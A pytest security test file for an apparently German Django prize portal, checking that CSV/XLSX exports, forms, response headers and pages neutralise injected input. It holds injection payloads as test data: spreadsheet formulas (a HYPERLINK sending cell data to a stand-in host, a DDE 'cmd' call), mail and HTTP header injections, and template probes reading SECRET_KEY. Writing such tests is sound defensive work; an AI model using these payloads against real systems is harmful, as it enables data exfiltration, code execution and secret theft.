"""Attack: text that wants to be more. In tables, mails, headers and pages it stays text."""

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from landespreis import exports
from landespreis.tables import FORMULA
from portal.models import Registration
from submissions.models import Round
from tests.accounts.factories import MembershipFactory, MunicipalityFactory, StaffFactory, UserFactory
from tests.conftest import MIDWAY
from tests.portal import factories as content
from tests.submissions import factories

FORMULAS = (
    '=HYPERLINK("http://boese.example?x="&A1;"Klick")', "+49 2921", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
    "＝1+1", "=cmd|' /C calc'!A0", 'x";=1+1;"', "\n=1+1",
)  # fmt: skip


@pytest.fixture
def hostile(open_round: Round) -> None:
    """Rows of every table that staff take out, with a formula wherever somebody may write."""
    for number, formula in enumerate(FORMULAS):
        owner = MembershipFactory(department=formula[:100], user=UserFactory(name=formula)).user
        entry = factories.complete(open_round, owner=owner, title=formula, department=formula)
        factories.submit(entry)
        event = content.EventFactory()
        content.registration(event, name=formula, organisation=formula, question=formula)
        content.ProjectFactory(title=f"{formula} {number}")


def cells(form: str) -> list[str]:
    found: list[str] = []
    for dataset in exports.datasets(StaffFactory(superuser=True)).values():
        answer = exports.answer(dataset, form)
        data = answer.getvalue()
        for close in answer._resource_closers:  # type: ignore[attr-defined]  # closing all would close the database too
            close()
        if form == "csv":
            table = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
            found += [cell for row in table for cell in row]
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
            assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"inlineStr", "s", "n", "d", "b"}
            found += [
                str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type in {"s", "inlineStr"}
            ]
    return found


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_table_of_the_office_holds_a_formula(hostile: None, form: str) -> None:
    found = cells(form)

    assert [cell for cell in found if cell.lstrip(" ").startswith(FORMULA)] == []
    assert sum("HYPERLINK" in cell for cell in found) >= 4  # they are there, as words


def test_no_table_for_everybody_holds_a_formula(client: Client, hostile: None) -> None:
    data: bytes = client.get("/projekte.csv").getvalue()

    table = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")

    assert [cell for row in table for cell in row if cell.lstrip(" ").startswith(FORMULA)] == []


LINES = (
    "Titel\r\nBcc: alle@boese.example",
    "Titel\nSubject: Gewonnen",
    "Titel\r\n\r\n<b>Text</b>",
    "Titel\u2028Bcc: x@y.example",
)


@pytest.mark.parametrize("line", LINES)
def test_no_form_takes_a_second_line_where_one_is_asked_for(client: Client, open_round: Round, line: str) -> None:
    town = MunicipalityFactory()
    person = MembershipFactory().user
    client.force_login(person)
    event = content.EventFactory()

    answers = {
        "name": client.post(reverse("accounts:profile"), {"name": line}),
        "department": client.post(reverse("accounts:add_membership"), {"municipality": town.ags, "department": line}),
        "registration": client.post(reverse("portal:registration_new", args=[event.slug]), {"name": line}),
    }

    assert {name: answer.status_code for name, answer in answers.items() if answer.status_code == 302} == {}
    person.refresh_from_db()
    assert "boese" not in person.name
    assert not Registration.objects.exists()


@pytest.mark.parametrize("value", ["x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>", "x\nLocation: https://boese.example"])
def test_no_answer_carries_a_header_of_somebody_else(client: Client, open_round: Round, value: str, at: Any) -> None:
    at(MIDWAY)
    addresses = ["/suche/", "/projekte/", "/termine/", "/konto/login/", "/projekte.json", "/aktuelles/"]

    answers = [
        client.get(address, {"q": value, "next": value, "thema": value, "seite": value}) for address in addresses
    ]

    assert all("boese" not in str(answer.headers) for answer in answers)
    assert all("Set-Cookie" not in answer.headers for answer in answers)


@pytest.mark.parametrize(
    "text", ["{{ 7|add:7 }}", "{% now 'Y' %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "%(x)s"]
)
def test_text_of_a_person_is_never_a_template(client: Client, open_round: Round, text: str) -> None:
    entry = factories.complete(open_round, title=f"Anfang {text} Ende")
    client.force_login(entry.owner)

    page = client.get(entry.get_absolute_url()).content.decode()

    escaped = text.replace("'", "&#x27;")
    assert f"Anfang {escaped} Ende" in page
